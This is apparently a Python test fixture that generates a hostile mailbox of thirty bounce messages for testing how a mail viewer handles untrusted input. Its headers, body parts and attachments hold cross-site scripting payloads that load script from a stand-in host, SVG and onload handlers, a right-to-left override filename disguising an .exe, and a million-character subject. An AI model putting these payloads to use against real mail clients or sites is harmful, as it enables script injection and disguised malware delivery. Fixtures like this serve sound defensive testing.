"""A mailbox that tries everything: script in subjects, names and hosts, HTML and SVG parts, reordering, a vast subject."""

from __future__ import annotations

from datetime import UTC, datetime, timedelta
from email.utils import format_datetime

SCRIPT = "\"'><script src=//192.0.2.9/x.js></script><img src=http://192.0.2.9/i.png onerror=document.title='run'>"
SVG = '<svg xmlns="http://www.w3.org/2000/svg" onload="document.title=\'run\'"><image href="http://192.0.2.9/s.png"/></svg>'
TURN = "\u202egpj.exe\u202c\u200b"
_BEGAN = datetime(2026, 5, 3, 5, 0, tzinfo=UTC)

_LETTER = """\
From MAILER-DAEMON {stamp}
Return-Path: <>
Delivered-To: info@hanaya.example
Received: from mx{n}.partner.example (mx{n}.partner.example [198.51.100.{n}])
\tby mx1.rental.example (Postfix) with ESMTP id 4F{n:04d}; {date}
From: {script} <MAILER-DAEMON@mx{n}.partner.example>
To: info@hanaya.example
Subject: Undelivered Mail Returned to Sender {script} {vast}
Date: {date}
Message-ID: <{n}@mx.partner.example>
MIME-Version: 1.0
Content-Type: multipart/report; report-type=delivery-status; boundary="edge"

--edge
Content-Type: text/plain; charset=utf-8

This is the mail system at host {script}.
<{script}@partner.example>: host 192.0.2.9 said: 550 5.1.1 {script} {turn} http://192.0.2.9/click javascript:alert(1)

--edge
Content-Type: message/delivery-status

Reporting-MTA: dns; {script}
Arrival-Date: {date}

Final-Recipient: rfc822; user{n}@partner.example
Action: failed
Status: 5.1.1
Diagnostic-Code: smtp; 550 5.1.1 {script} {turn} unknown user

--edge
Content-Type: text/html

<html><body onload="document.title='run'">{script}{svg}</body></html>
--edge
Content-Type: image/svg+xml; name="{turn}.svg"

{svg}
--edge
Content-Type: message/rfc822

Received: from [203.0.113.{n}] ({script} [203.0.113.{n}]) (Authenticated sender: {script})
\tby out3.rental.example (Postfix) with ESMTPSA id 9A{n:04d}; {date}
From: {script} <info@hanaya.example>
To: user{n}@partner.example
Subject: {script} {turn}
Date: {date}
Message-ID: <o{n}@hanaya.example>

{script}
--edge--

"""


def mailbox() -> bytes:
    """Thirty such bounces of one hour."""
    return "".join(_letter(number) for number in range(1, 31)).encode()


def _letter(number: int) -> str:
    date = _BEGAN + timedelta(minutes=2 * number)
    return _LETTER.format(
        n=number, script=SCRIPT, svg=SVG, turn=TURN, vast="A" * 1_000_000 if number == 7 else "",
        date=format_datetime(date), stamp=date.strftime("%a %b %d %H:%M:%S %Y"),
    )  # fmt: skip
